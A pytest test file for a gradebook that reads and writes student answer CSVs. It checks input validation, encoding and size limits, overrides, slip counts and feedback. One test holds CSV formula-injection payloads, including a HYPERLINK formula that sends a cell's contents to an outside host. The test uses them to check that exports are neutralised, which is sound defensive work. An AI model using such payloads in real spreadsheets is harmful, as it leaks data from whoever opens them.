"""The gradebook keeps every answer and tells the instructor what went wrong with the input:
unknown names, merged ids, duplicate rows and columns, encodings, oversized cells,
delimiters and quoted headers; exported cells never run as formulas; unreadable answers
wait in a review queue; overrides, points, δ rows, slip counts per student and per item."""

from __future__ import annotations

import csv
import math

import pytest

import nn
from autograd import Value, grade
from autograd.teaching.grade import MAX_CELL, read_answers


def E(w, b, x):
    return ((w * x + b).tanh() - 0.5) ** 2 * 0.5


AT = {"w": -0.5, "b": 0.5, "x": 2.0}
_z = math.tanh(-0.5)
RIGHT = {"w": (_z - 0.5) * (1 - _z ** 2) * 2.0, "b": (_z - 0.5) * (1 - _z ** 2)}


# -- names ----------------------------------------------------------------------------------
def test_an_unknown_answer_name_is_refused_with_the_expected_names():
    ex = nn.exercise([2, 2, 1], "tanh", "half_sse", seed=3)
    with pytest.raises(ValueError, match=r"'w\[1\]_\{1,3\}'.*expected names are 'w\[1\]_\{1,1\}'"):
        ex.grade({"ana": {"w[1]_{1,3}": "0.1"}}, names=ex.names)
    with pytest.raises(ValueError, match="'v', which is nothing to grade here; the expected names are 'w', 'b', 'x'"):
        grade(E, {"ana": {"v": 1}}, AT)


def test_delta_rows_are_graded_beside_the_weights():
    ex = nn.exercise([2, 2, 1], "tanh", "half_sse", seed=3)
    answers = {"ana": {n: f"{v:.3g}" for n, v in {**ex.solution(), **ex.deltas()}.items()}}
    book = ex.grade(answers, sig_figs=3)
    assert set(ex.deltas()) <= set(book.names)
    assert book.score("ana") == 1.0 and book.counts()["missing"] == 0
    wrong = ex.grade({"ben": {"δ[1]_1": f"{-ex.deltas()['δ[1]_1']:.3g}"}}, sig_figs=3)
    assert wrong.slip("ben", "δ[1]_1").kind == "sign" and wrong.verdict("ben", "w[1]_{1,1}") == "missing"


def test_ids_one_and_quoted_one_are_not_merged():
    with pytest.raises(ValueError, match="would be one student"):
        grade(E, {1: {"w": 1}, "1": {"w": 2}}, AT)
    work = nn.assignment(["1", "2"], [2, 2, 1], "tanh", "half_sse")
    with pytest.raises(ValueError, match="would be one student"):
        work.grade({1: {}, "1": {}})


def test_an_argument_named_score_keeps_its_answers_and_the_score_column(tmp_path):
    def F(score, b):
        return (score * b).tanh()

    book = grade(F, {"ana": {"score": "0.42", "b": 0.1}}, {"score": 0.5, "b": 2.0}, sig_figs=3)
    path = book.to_csv(tmp_path / "marks.csv")
    header = next(csv.reader(open(path, encoding="utf-8", newline="")))
    assert header[:3] == ["student", "score (total)", "score"]
    assert read_answers(path) == {"ana": {"score": "0.42", "b": "0.1"}}


# -- reading CSV ----------------------------------------------------------------------------
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_delimiter_is_found_and_quoted_headers_are_read(tmp_path, delimiter):
    sheet = tmp_path / "answers.csv"
    rows = [["id", "w[1]_{1,1}", "b"], ["s01", "-0,5", "0.25"], ["s02", "", "1/4"]]
    with open(sheet, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, delimiter=delimiter, quoting=csv.QUOTE_ALL if delimiter == "," else csv.QUOTE_MINIMAL).writerows(rows)
    assert read_answers(sheet) == {"s01": {"w[1]_{1,1}": "-0,5", "b": "0.25"}, "s02": {"w[1]_{1,1}": "", "b": "1/4"}}


def test_an_unquoted_header_cut_at_its_comma_is_named(tmp_path):
    sheet = tmp_path / "answers.csv"
    sheet.write_text("id,w[1]_{1,1},b\ns01,0.5,0.25\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"answers.csv.*'w\[1\]_\{1' was cut"):
        read_answers(sheet)


def test_duplicate_rows_and_columns_are_refused(tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text("id,w\ns01,0.5\ns01,0.6\n", encoding="utf-8")
    with pytest.raises(ValueError, match="rows.csv' line 3: a second row for student 's01'"):
        read_answers(rows)
    cols = tmp_path / "cols.csv"
    cols.write_text("id,w,w\ns01,0.5,0.6\n", encoding="utf-8")
    with pytest.raises(ValueError, match="cols.csv' has two columns called 'w'"):
        read_answers(cols)


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16"])
def test_a_file_not_in_utf8_gets_an_error_naming_it(tmp_path, encoding):
    sheet = tmp_path / f"{encoding}.csv"
    sheet.write_bytes("id,w\nRenée,−0.5\n".replace("−", "-").encode(encoding))
    with pytest.raises(ValueError, match=rf"{encoding}.csv.*UTF"):
        read_answers(sheet)


def test_an_oversized_cell_is_named_with_its_file_and_line(tmp_path):
    sheet = tmp_path / "big.csv"
    sheet.write_text("id,w\ns01,0.5\ns02," + "9" * (MAX_CELL + 10) + "\n", encoding="utf-8")
    with pytest.raises(ValueError, match="big.csv' line 3"):
        read_answers(sheet)


def test_a_missing_file_is_a_clear_error():
    with pytest.raises(FileNotFoundError, match="typo.csv"):
        grade(E, "typo.csv", AT)
    with pytest.raises(FileNotFoundError, match="typo.csv"):
        nn.assignment(["s01"], [2, 2, 1], "tanh", "half_sse").grade("typo.csv")


def test_assignment_grade_reads_a_path(tmp_path):
    work = nn.assignment(["s01", "s02"], [2, 2, 1], "tanh", "half_sse")
    sheet = tmp_path / "answers.csv"
    rows = [["student"] + work["s01"].names]
    rows += [[s] + [f"{work[s].solution()[n]:.3g}" for n in work[s].names] for s in ("s01", "s02")]
    with open(sheet, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    assert work.grade(sheet, sig_figs=3).scores() == {"s01": 1.0, "s02": 1.0}


# -- writing CSV ----------------------------------------------------------------------------
def test_exported_cells_never_start_a_formula(tmp_path):
    hostile = ['=HYPERLINK("http://x?"&B2)', "+1+41", "-2*21", "@SUM(A1)", "\t=2", "\r=3", "=1+41"]
    answers = {s: {"w": s, "b": s} for s in hostile}
    answers["-0.5"] = {"w": "-0.5", "b": "−0.25"}
    book = grade(E, answers, AT, sig_figs=3)
    path = book.to_csv(tmp_path / "marks.csv")
    with open(path, encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    numbers = {"-0.5"}
    assert not [c for c in cells if c and c[0] in "=+-@\t\r" and c not in numbers], cells
    again = read_answers(path)
    assert set(again) == {s.strip() for s in answers} and again['=HYPERLINK("http://x?"&B2)']["w"] == hostile[0]


# -- review, override, points, counts, feedback -----------------------------------------------
def test_unreadable_answers_wait_for_review_and_an_override_is_kept(tmp_path):
    book = grade(E, {"ana": {"w": "see my working: 0.2", "b": f"{RIGHT['b']:.3g}"}, "ben": {"w": "?", "b": "0"}},
                 AT, sig_figs=3)
    assert [(m.student, m.name) for m in book.review()] == [("ana", "w"), ("ben", "w")]
    book.override("ana", "w", "right", "0.2 in the working is right to 1 figure")
    assert [(m.student, m.name) for m in book.review()] == [("ben", "w")]
    assert book.verdict("ana", "w") == "right" and book.score("ana") == 1.0
    with pytest.raises(ValueError, match="give the reason"):
        book.override("ben", "w", "wrong", "")
    path = book.to_csv(tmp_path / "marks.csv")
    text = open(path, encoding="utf-8").read()
    assert "overridden: 0.2 in the working is right to 1 figure" in text
    assert "marked by hand" in book.feedback("ana")


def test_points_per_item():
    answers = {"ana": {"w": f"{RIGHT['w']:.3g}", "b": "0.9"}}
    book = grade(E, answers, AT, sig_figs=3, points={"w": 3, "b": 1})
    assert book.points("ana") == (3.0, 4.0) and book.score("ana") == 0.75
    with pytest.raises(ValueError, match="points for 'q'"):
        grade(E, answers, AT, sig_figs=3, points={"q": 1})


def test_slip_counts_per_student_and_per_answer_and_per_item():
    answers = {"ana": {n: f"{-v:.3g}" for n, v in RIGHT.items()},
               "ben": {n: f"{-v:.3g}" for n, v in RIGHT.items()},
               "cy": {n: f"{v:.3g}" for n, v in RIGHT.items()}}
    book = grade(E, answers, AT, sig_figs=3)
    assert book.slip_counts() == book.slip_counts(per="answer") == {"sign": 4}
    assert book.slip_counts(per="student") == {"sign": 2}
    rows = {r["name"]: r for r in book.questions()}
    assert rows["w"]["right"] == 1 and rows["w"]["wrong"] == 2 and rows["w"]["slips"] == {"sign": 2}
    assert "∂E/∂w" in book.question_table() and "sign 2" in book.question_table()
    with pytest.raises(ValueError, match="per must be"):
        book.slip_counts(per="class")


def test_feedback_names_the_slip_in_the_lectures_words_and_never_the_number():
    ex = nn.exercise([2, 2, 1], "tanh", "half_sse", seed=3)
    sol = ex.solution()
    text = ex.feedback({"w[1]_{1,1}": f"{-sol['w[1]_{1,1}']:.3g}", "b[2]_1": "1 banana", "w[9]": 1, 3: 2})
    assert "∂E/∂w^{(1)}_{1,1}: wrong. Likely slip: the size is right but the sign is wrong" in text
    assert "∂E/∂b^{(2)}_1: not a number I can read" in text
    assert "'w[9]' is not an item of this exercise" in text and not text.ok
    assert f"{abs(sol['w[1]_{1,1}']):.3g}" not in text
    assert ex.feedback(None).startswith("your answers should be a dict")
    assert ex.feedback({n: f"{v:.3g}" for n, v in sol.items()}).ok


def test_slip_texts_name_nodes_as_the_lectures_do_never_an_internal_name():
    ex = nn.exercise([2, 2, 1], "tanh", "half_sse", seed=3)
    forgot_half = {n: f"{2 * v:.4g}" for n, v in ex.solution().items()}
    book = ex.grade({"ana": forgot_half}, sig_figs=3)
    slip = book.slip("ana", "b[2]_1")
    assert slip.kind == "loss_factor" and slip.hint == "the ½ of E is forgotten"
    for n in ex.names:
        s = book.slip("ana", n)
        assert s is not None and not any(tok.startswith("n") and tok[1:].isdigit() for tok in s.text.split())


# -- the csv module's bound is the caller's: read_answers measures cells itself -------------------
def test_reading_answers_never_changes_the_csv_modules_field_limit(tmp_path, monkeypatch):
    """csv.field_size_limit is one setting for the whole process: read_answers never sets it
    (a read that fails on an oversized cell included)."""
    calls = []
    real = csv.field_size_limit
    monkeypatch.setattr(csv, "field_size_limit", lambda *new: calls.append(new) or real(*new))
    good, big = tmp_path / "good.csv", tmp_path / "big.csv"
    good.write_text("id,w\ns01,0.5\n", encoding="utf-8")
    big.write_text("id,w\ns01," + "9" * (MAX_CELL + 1) + "\n", encoding="utf-8")
    assert read_answers(good) == {"s01": {"w": "0.5"}}
    with pytest.raises(ValueError, match="big.csv' line 2"):
        read_answers(big)
    assert [c for c in calls if c] == []  # never called with a new limit


def test_an_oversized_cell_is_refused_even_where_the_caller_raised_the_csv_limit(tmp_path):
    before = csv.field_size_limit(2**30)  # the caller reads huge cells of its own
    try:
        big = tmp_path / "big.csv"
        big.write_text("id,w\ns01,0.5\ns02,\"" + "9" * (MAX_CELL + 1) + "\"\n", encoding="utf-8")
        with pytest.raises(ValueError, match=r"big.csv' line 3: .*128 KiB"):
            read_answers(big)
        assert csv.field_size_limit() == 2**30  # still the caller's
        exactly = tmp_path / "exactly.csv"
        exactly.write_text("id,w\ns01," + "9" * MAX_CELL + "\n", encoding="utf-8")
        assert len(read_answers(exactly)["s01"]["w"]) == MAX_CELL  # the bound itself is allowed
    finally:
        csv.field_size_limit(before)


def test_threads_reading_answers_leave_the_callers_csv_reading_alone(tmp_path):
    """While 8 threads read a class's answers (some files with an oversized cell), the caller's
    own csv reading, under the limit it set, sees its limit the whole time."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    rows = "".join(f"s{i:03},{i * 0.001:.3f}\n" for i in range(2000))
    good, big = tmp_path / "good.csv", tmp_path / "big.csv"
    good.write_text("id,w\n" + rows, encoding="utf-8")
    big.write_text("id,w\n" + rows + "s9999," + "9" * (MAX_CELL + 1) + "\n", encoding="utf-8")
    wide = "a," + "x" * (MAX_CELL * 2) + "\n"  # a cell of the caller's, over the default limit
    before = csv.field_size_limit(2**30)
    stop = threading.Event()
    try:
        def read(i):
            if i % 2:
                with pytest.raises(ValueError, match="line 2002"):
                    read_answers(big)
                return None
            return len(read_answers(good))

        def callers_own():
            seen = 0
            while not stop.is_set():
                assert len(next(csv.reader([wide]))[1]) == MAX_CELL * 2  # csv.Error if the limit moved
                assert csv.field_size_limit() == 2**30
                seen += 1
            return seen

        with ThreadPoolExecutor(9) as pool:
            own = pool.submit(callers_own)
            counts = list(pool.map(read, range(24)))
            stop.set()
            assert own.result() > 0
        assert [c for c in counts if c is not None] == [2000] * 12
        assert csv.field_size_limit() == 2**30
    finally:
        stop.set()
        csv.field_size_limit(before)


def test_an_answers_file_is_bounded_by_the_bytes_read_not_its_claimed_size(monkeypatch):
    """A file whose size is not known before reading (a pipe, a device, a file still growing:
    /dev/zero claims 0 bytes and never ends) is read to at most MAX_FILE + 1 bytes and refused."""
    import os

    import autograd.teaching.grade as grading

    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero on this system (the endless file the bound is tried on)")
    monkeypatch.setattr(grading, "MAX_FILE", 1000)
    with pytest.raises(ValueError, match="read_answers: '/dev/zero' holds more than 1,000 bytes"):
        read_answers("/dev/zero")


def test_a_folder_given_as_the_answers_is_named(tmp_path):
    (tmp_path / "answers").mkdir()
    with pytest.raises(OSError, match="read_answers: cannot read .*answers"):
        read_answers(tmp_path / "answers")
